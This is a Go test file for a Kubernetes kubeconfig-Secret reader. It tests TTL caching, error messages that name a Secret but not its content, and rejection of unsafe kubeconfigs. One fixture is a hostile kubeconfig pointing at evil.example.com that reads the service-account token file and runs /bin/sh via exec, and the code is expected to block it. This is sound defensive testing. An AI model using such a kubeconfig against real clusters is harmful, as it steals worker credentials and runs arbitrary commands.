package kubeconfigsecret

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes/fake"
)

func secret(ns, name string, data map[string][]byte) *corev1.Secret {
	return &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name}, Data: data}
}

func TestASecretIsReadAgainOnceItsCopyIsOlderThanTheTTL(t *testing.T) {
	c := fake.NewClientset(secret("team-a", "edge", map[string][]byte{"value": []byte(inline)}))
	s := NewFor(c, 10*time.Second)
	now := time.Unix(1000, 0)
	s.now = func() time.Time { return now }
	ctx := context.Background()

	got, err := s.Get(ctx, "team-a", "edge")
	require.NoError(t, err)
	require.Equal(t, inline, string(got))

	rotated := strings.Replace(inline, "token: abc", "token: rotated", 1)
	_, err = c.CoreV1().Secrets("team-a").Update(ctx, secret("team-a", "edge", map[string][]byte{"value": []byte(rotated)}), metav1.UpdateOptions{})
	require.NoError(t, err)
	got, _ = s.Get(ctx, "team-a", "edge")
	require.Equal(t, inline, string(got), "within the TTL the copy is used")
	now = now.Add(11 * time.Second)
	got, _ = s.Get(ctx, "team-a", "edge")
	require.Equal(t, rotated, string(got))
}

func TestErrorsNameTheSecretAndNeverItsContent(t *testing.T) {
	c := fake.NewClientset(secret("team-a", "wrong-key", map[string][]byte{"kubeconfig": []byte("token: s3cr3t")}))
	s := NewFor(c, time.Second)
	ctx := context.Background()
	_, err := s.Get(ctx, "team-a", "missing")
	require.EqualError(t, err, "kubeconfig Secret team-a/missing: not found in the management cluster")
	_, err = s.Get(ctx, "team-a", "wrong-key")
	require.EqualError(t, err, `kubeconfig Secret team-a/wrong-key: has no key "value" (Fleet's key for the kubeconfig)`)
	require.NotContains(t, err.Error(), "s3cr3t")

	var none *Source
	_, err = none.Get(ctx, "team-a", "edge")
	require.ErrorContains(t, err, "kubeconfig Secret team-a/edge: this worker has no management cluster to read it from")
}

const inline = `apiVersion: v1
kind: Config
clusters:
- name: edge
  cluster: {server: "https://edge.example.com:6443", certificate-authority-data: Y2E=}
users:
- name: admin
  user: {token: abc}
contexts:
- name: edge
  context: {cluster: edge, user: admin}
current-context: edge
`

// Whoever may write a kubeconfig Secret must not make the worker read its own files (its service account
// token, say) or run a program, and send the result to a server of their choosing.
func TestAKubeconfigFromASecretMayNameNoFileAndNoProgram(t *testing.T) {
	ctx := context.Background()
	c := fake.NewClientset(
		secret("team-a", "inline", map[string][]byte{"value": []byte(inline)}),
		secret("team-a", "files", map[string][]byte{"value": []byte(`apiVersion: v1
kind: Config
clusters:
- name: edge
  cluster: {server: "https://evil.example.com", certificate-authority: /etc/ssl/ca.pem}
users:
- name: admin
  user:
    tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token
    exec: {apiVersion: client.authentication.k8s.io/v1, command: /bin/sh}
contexts:
- name: edge
  context: {cluster: edge, user: admin}
current-context: edge
`)}),
		secret("team-a", "garbage", map[string][]byte{"value": []byte("password: hunter2\n\t- [")}))
	s := NewFor(c, time.Second)
	_, err := s.Get(ctx, "team-a", "inline")
	require.NoError(t, err)
	_, err = s.Get(ctx, "team-a", "files")
	require.EqualError(t, err, "kubeconfig Secret team-a/files: names files or programs on the worker's host, which a kubeconfig from a "+
		"Secret may not: [clusters[edge].certificate-authority (use certificate-authority-data) users[admin].exec (use a token or a client "+
		"certificate) users[admin].tokenFile (use token)]")
	_, err = s.Get(ctx, "team-a", "garbage")
	require.EqualError(t, err, `kubeconfig Secret team-a/garbage: key "value" is not a kubeconfig`)
}
